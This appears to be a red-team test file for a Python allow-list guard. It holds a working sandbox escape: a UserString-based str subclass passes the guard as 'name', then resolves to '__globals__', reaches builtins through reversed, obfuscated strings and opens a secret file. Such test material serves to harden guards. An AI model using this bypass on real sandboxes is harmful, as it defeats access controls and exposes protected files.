# family: red team, round 19 (source layer, normalised names, allow-list guards)
# rt_003: the new allow-list guard (guards.py / dynamic_names._guarded) trusts `key in ("name", "age")` to make
# key equal "name" unless the TOOL defines __eq__. A str subclass that inherits collections.UserString's
# __eq__/__hash__ (stdlib code comparing self.data) passes the guard with data == "name", then getattr's
# type-dict lookup hashes and compares via the same data, which now says "__globals__".
from collections import UserString


class K(UserString, str):
    @property
    def data(self):
        self.n = getattr(self, "n", 0) + 1
        return "name" if self.n == 1 else "".join(reversed("__slabolg__"))

    @data.setter
    def data(self, value):
        self.n = 0


def read(obj, key):
    if key in ("name", "age"):
        return getattr(obj, key)
    return None


def helper():
    return 1


g = read(helper, K("name"))
print(sorted(g.keys())[:6])
b = g["".join(reversed("__snitliub__"))]
print(getattr(b, "open")("/tmp/r19/work/secret.txt").read())
